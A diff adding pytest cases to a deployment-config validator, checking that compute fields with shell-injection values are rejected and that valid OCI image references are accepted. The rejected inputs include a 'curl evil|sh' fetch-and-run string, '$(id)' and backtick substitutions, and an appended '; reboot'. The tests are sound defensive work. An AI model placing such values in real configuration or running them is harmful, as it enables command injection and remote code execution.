@@ -388,3 +388,26 @@ def test_database_engine_version_is_a_major_unless_minor_upgrades_are_off():
     assert pinned.database.engine_version == "16.11"
     (msg,) = problems(values(sofacover__database={"engineVersion": "latest"}))
     assert "sofacover:database.engineVersion" in msg
+
+
+@pytest.mark.parametrize("key,value", [
+    ("appImage", "nginx; curl evil|sh"),
+    ("appImage", "nginx:$(id)"),
+    ("appImage", "Nginx:latest"),
+    ("healthCheckPath", "/healthz; reboot"),
+    ("healthCheckPath", "healthz"),
+    ("domainName", "sofacoverpro.com`id`"),
+    ("certificateArn", "arn:aws:acm:us-east-1:123456789012:certificate/x;id"),
+])
+def test_compute_strings_that_reach_a_shell_or_aws_are_refused_naming_the_key(key, value):
+    (msg,) = problems(values(sofacover__compute={key: value}))
+    assert f"sofacover:compute.{key} is {value!r}: must be " in msg
+
+
+@pytest.mark.parametrize("image", [
+    "public.ecr.aws/docker/library/nginx:1.27-alpine",
+    "localhost:5000/sofacover/app:v1.2.3",
+    "123456789012.dkr.ecr.us-east-1.amazonaws.com/sofacover/app@sha256:" + "0a" * 32,
+])
+def test_image_references_of_the_oci_grammar_are_accepted(image):
+    assert parse(values(sofacover__compute={"appImage": image})).compute.app_image == image
